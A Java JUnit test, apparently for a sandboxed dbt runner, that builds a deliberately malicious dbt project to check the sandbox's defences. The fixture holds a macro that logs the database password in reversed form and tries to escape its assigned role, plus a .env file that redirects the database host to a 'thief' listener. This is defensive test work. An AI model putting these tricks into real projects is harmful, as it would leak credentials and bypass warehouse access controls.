package dev.slipstream.bolt;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import dev.slipstream.database.SampleWarehouse.Login;
import dev.slipstream.database.TestMetadata;
import dev.slipstream.database.TestWarehouse;
import dev.slipstream.workspace.Repository;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.time.Duration;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/** A real dbt in the real sandbox against the real warehouse, of a project that means harm. */
class RealRunTest {
    @RegisterExtension
    private static final TestMetadata METADATA = new TestMetadata();

    private static final Duration LONG = Duration.ofMinutes(4);
    private static final String THIEF = "127.0.0.9";
    private static final Pattern BACKWARDS = Pattern.compile("drowssap ([A-Za-z0-9_-]+)");

    @TempDir
    private Path folder;

    @Test
    void whatItLeaksOfItsLoginIsOfNoUseOnceItHasEndedAndItsEnvironmentFileLeadsNowhere() throws Exception {
        var contacts = new AtomicInteger();
        try (var warehouses = new TestWarehouse(folder.resolve("warehouse"));
                var thief =
                        new ServerSocket(warehouses.warehouse().production().port(), 5, InetAddress.getByName(THIEF))) {
            Thread.ofVirtual().start(() -> count(thief, contacts));
            var login = warehouses.warehouse().production();
            whatTheFileSaysWouldLeadToTheThief(login);
            await().atMost(LONG).until(() -> contacts.getAndSet(0) == 1);
            project();
            var server = RealServer.of(folder, METADATA, login);
            try (server) {
                var run = server.start(BoltServer.schedule("daily_prod", "OFF"));
                await().atMost(LONG).until(() -> server.run(run.id()).state().ended());
                var ended = System.nanoTime();
                var log = Files.readString(server.files.log(run.id()));

                assertThat(server.run(run.id()).message()).as(log).isEmpty();
                assertThat(server.run(run.id()).login()).isEqualTo(new Run.Login("run_" + run.id(), true));
                var found = BACKWARDS.matcher(log);
                assertThat(found.find()).as(log).isTrue();
                var leaked = new StringBuilder(found.group(1)).reverse().toString();
                assertThat(leaked).hasSizeGreaterThan(40);
                assertThatThrownBy(() -> connect(login, "run_" + run.id(), leaked))
                        .hasMessageContaining("authentication failed");
                assertThat(Duration.ofNanos(System.nanoTime() - ended)).isLessThan(Duration.ofSeconds(1));
                theWarehouseIsAsItShouldBe(warehouses, login);
            }
        }
        assertThat(contacts).hasValue(0);
    }

    /** Also what was made outside of the role production has is production's, and readers read it in spite of a grants: config. */
    private static void theWarehouseIsAsItShouldBe(TestWarehouse warehouses, Login runs) throws SQLException {
        assertThatThrownBy(() -> connect(runs, "prod", runs.password())).isInstanceOf(SQLException.class);
        var ada = warehouses.warehouse().developer("ada");
        try (var connection = connect(ada, ada.user(), ada.password());
                var rows = connection.createStatement().executeQuery("""
                        select tablename, tableowner, (select min(id) from dbt_prod.secrets) from pg_tables
                        where schemaname = 'dbt_prod' order by tablename""")) {
            for (var table : new String[] {"own", "secrets"}) {
                assertThat(rows.next()).isTrue();
                assertThat(rows.getString(1)).isEqualTo(table);
                assertThat(rows.getString(2)).isEqualTo("prod");
                assertThat(rows.getInt(3)).isEqualTo(1);
            }
        }
    }

    private static void whatTheFileSaysWouldLeadToTheThief(Login login) throws Exception {
        var builder = new ProcessBuilder(
                RealServer.DBT_HOST.resolve(".venv/bin/python").toString(),
                "-c",
                "import psycopg2; psycopg2.connect(host='localhost', port=%d, user='a', password='b')"
                        .formatted(login.port()));
        builder.environment().put("PGHOSTADDR", THIEF);
        builder.redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD);
        assertThat(builder.start().waitFor()).isNotZero();
    }

    private void project() {
        Repository.at(folder.resolve("repository"))
                .with("dbt_project.yml", """
                        name: shop
                        profile: shop
                        model-paths: [models]
                        models: {+materialized: table, +grants: {select: []}}
                        on-run-end: "{{ leak() }}"
                        """)
                .with("models/secrets.sql", "select 1 as id")
                .with("macros/leak.sql", """
                        {% macro leak() %}{% if execute %}
                          {% do log('drowssap ' ~ (adapter.config.credentials.password | reverse), info=True) %}
                          {% do run_query('reset role; set role none; create table dbt_prod.own as select 1 as id; set role prod') %}
                        {% endif %}{% endmacro %}
                        """)
                .with(".env", "PGHOSTADDR=%s\nDBT_PROFILES_DIR=/tmp\n".formatted(THIEF))
                .with("profiles.yml", "shop: {outputs: {}}\n")
                .commit("Mean harm");
    }

    private static Connection connect(Login login, String user, String password) throws SQLException {
        return DriverManager.getConnection(
                "jdbc:postgresql://127.0.0.1:%d/%s".formatted(login.port(), login.database()), user, password);
    }

    private static void count(ServerSocket thief, AtomicInteger contacts) {
        try {
            while (true) {
                thief.accept().close();
                contacts.incrementAndGet();
            }
        } catch (IOException closed) {
            // over
        }
    }
}
